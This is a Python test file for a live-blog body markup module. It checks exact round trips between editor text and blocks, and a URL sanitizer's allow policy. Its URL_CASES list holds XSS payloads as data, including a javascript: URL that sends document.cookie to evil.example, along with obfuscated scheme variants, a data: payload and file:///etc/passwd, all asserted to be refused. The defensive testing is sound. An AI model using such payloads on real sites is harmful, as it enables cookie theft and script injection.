"""Entry body markup: exact round trip between editable text and blocks."""

from hypothesis import given
from hypothesis import strategies as st

from liveblog import body

BLOCKS = [
    {"type": "paragraph", "text": "A plain paragraph."},
    {"type": "list", "items": ["One", "Two"]},
    {"type": "link", "text": "Read more here."},
    {"type": "link", "text": "Watch", "url": "https://example.com/v"},
    {"type": "interactive", "title": "NATO members in Europe"},
    {"type": "paragraph", "text": "- looks like a list but is not"},
    {"type": "paragraph", "text": "[Read more here.]()"},
    {"type": "paragraph", "text": "\\starts with a backslash"},
]


def test_serialize_then_parse_is_exact():
    text = body.serialize(BLOCKS)
    assert "[Read more here.]()" in text
    assert body.parse(text) == BLOCKS


def test_editors_text_is_forgiving():
    text = "First line\ncontinues here.\r\n\r\n-  spaced item\n- next\n\n\n\n[interactive:Map]"
    assert body.parse(text) == [
        {"type": "paragraph", "text": "First line continues here."},
        {"type": "list", "items": ["spaced item", "next"]},
        {"type": "interactive", "title": "Map"},
    ]


def test_images_go_back_to_their_positions():
    image = {"type": "image", "alt": "a", "caption": "c", "credit": "AP", "file_photo": False}
    blocks = [image, BLOCKS[0], image, BLOCKS[1], image]
    text_blocks, placed = body.split_images(blocks)
    assert [position for position, _ in placed] == [0, 1, 2]
    assert body.place_images(text_blocks, placed) == blocks


line = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1)
clean_line = line.map(lambda s: " ".join(s.split())).filter(bool)
block = st.one_of(
    st.builds(lambda t: {"type": "paragraph", "text": t}, clean_line),
    st.builds(lambda items: {"type": "list", "items": items}, st.lists(clean_line, min_size=1)),
    st.builds(
        lambda t: {"type": "interactive", "title": t}, clean_line.filter(lambda t: "]" not in t)
    ),
)


@given(st.lists(block, max_size=6))
def test_round_trip_property(blocks):
    assert body.parse(body.serialize(blocks)) == blocks


# --- The URL policy: http(s) with a host, mailto:, or a path on this site ----------------------

# (address, what readers get): shared with the browser test of entry_preview.js, which must agree.
URL_CASES = [
    ("https://example.com/story?id=1#top", "https://example.com/story?id=1#top"),
    ("http://example.com", "http://example.com"),
    ("HTTPS://EXAMPLE.COM/", "HTTPS://EXAMPLE.COM/"),
    ("mailto:desk@example.com", "mailto:desk@example.com"),
    ("/war-in-ukraine/entries/12/", "/war-in-ukraine/entries/12/"),
    ("/", "/"),
    ("javascript:fetch(`//evil.example/${document.cookie}`)", ""),
    ("JavaScript:alert(1)", ""),
    ("java\tscript:alert(1)", ""),
    ("\x01javascript:alert(1)", ""),
    (" javascript:alert(1)", ""),
    ("javascript&colon;alert(1)", ""),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""),
    ("vbscript:msgbox(1)", ""),
    ("file:///etc/passwd", ""),
    ("//evil.example/path", ""),
    ("/\\evil.example/path", ""),
    ("\\\\evil.example", ""),
    ("https:evil.example", ""),
    ("https:///evil.example", ""),
    ("https://", ""),
    ("mailto:", ""),
    ("relative/path", ""),
    ("#section", ""),
    ("?q=1", ""),
    ("", ""),
]


def test_safe_url_allows_web_mail_and_site_addresses_only():
    assert [(url, body.safe_url(url)) for url, _ in URL_CASES] == URL_CASES


# Characters a browser's URL parser removes or rewrites before it reads the scheme.
url_text = st.text(
    alphabet=st.sampled_from([*"javscriptJAVSCRIPT:/\\ .%&#;", "\t", "\n", "\x00", "\x7f"]),
    max_size=16,
)


@given(prefix=url_text, rest=st.text(max_size=8))
def test_safe_url_never_lets_another_scheme_through(prefix, rest):
    url = prefix + rest
    shown = body.safe_url(url)
    assert shown in ("", url)
    if shown:
        # What a browser would read: C0 controls, space, DEL dropped; backslash as slash.
        read = "".join(ch for ch in shown if ch > " " and ch != "\x7f").replace("\\", "/")
        scheme = read.partition(":")[0].lower() if ":" in read.partition("/")[0] else ""
        assert scheme in ("", "http", "https", "mailto")
        assert not read.startswith("//")


def test_refused_addresses_are_dropped_from_blocks_like_lost_links():
    blocks = body.parse("[Safe](https://example.com/)\n\n[Bad](javascript:alert)\n\n[Lost]()")
    assert body.with_safe_urls(blocks) == [
        {"type": "link", "text": "Safe", "url": "https://example.com/"},
        {"type": "link", "text": "Bad"},
        {"type": "link", "text": "Lost"},
    ]
    # The body itself keeps what the editor typed, so it still round-trips exactly.
    assert blocks[1] == {"type": "link", "text": "Bad", "url": "javascript:alert"}
